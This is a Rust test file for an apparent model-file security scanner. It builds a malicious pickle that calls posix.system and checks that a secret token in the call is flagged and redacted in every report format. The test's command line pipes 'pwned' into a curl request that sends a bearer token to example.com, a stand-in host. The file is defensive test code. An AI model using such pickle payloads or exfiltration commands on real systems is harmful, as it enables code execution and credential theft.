//! A secret that one plugin finds is shown by none: not by the finding of a pickle's call that quotes it, in no format.

use modelaudit_engine::Options;
use modelaudit_report::{Format, write};
use modelaudit_tests::{scan_bytes, scanner};

/// A pickle that calls `os.system` with a text.
fn call(argument: &str) -> Vec<u8> {
    let mut pickle = b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c".to_vec();
    pickle.push(u8::try_from(argument.len()).expect("a short argument"));
    pickle.extend_from_slice(argument.as_bytes());
    pickle.extend_from_slice(b"\x85R.");
    pickle
}

#[test]
fn a_token_in_the_argument_of_a_call_is_hidden_everywhere() {
    // Put together here, so that no shape of a live token stands in the repository.
    let token = ["hf", "QmZkVtRwXyPnLsGjHbCdFgTaUeIoKrMvNz"].join("_");
    let argument = format!("echo pwned | curl -H 'authorization: Bearer {token}' https://example.com/model");
    let (report, file) = scan_bytes(&scanner(Options::default()), "model.pkl", &call(&argument));
    let rules: Vec<&str> = file.findings().map(|(_, f)| report.rules[f.rule].id.as_str()).collect();
    assert!(rules.contains(&"S201") && rules.iter().any(|r| r.starts_with("S7")), "{rules:?}");
    for format in Format::ALL {
        let mut out = Vec::new();
        write(format, &report, &modelaudit_report::Options { verbose: true, ..Default::default() }, &mut out)
            .expect("a Vec takes all");
        let text = String::from_utf8_lossy(&out);
        assert!(!text.contains(&token[6..20]), "{format:?} shows the secret:\n{text}");
        assert!(text.contains("S201") || format == Format::CycloneDx, "{format:?}");
    }
}
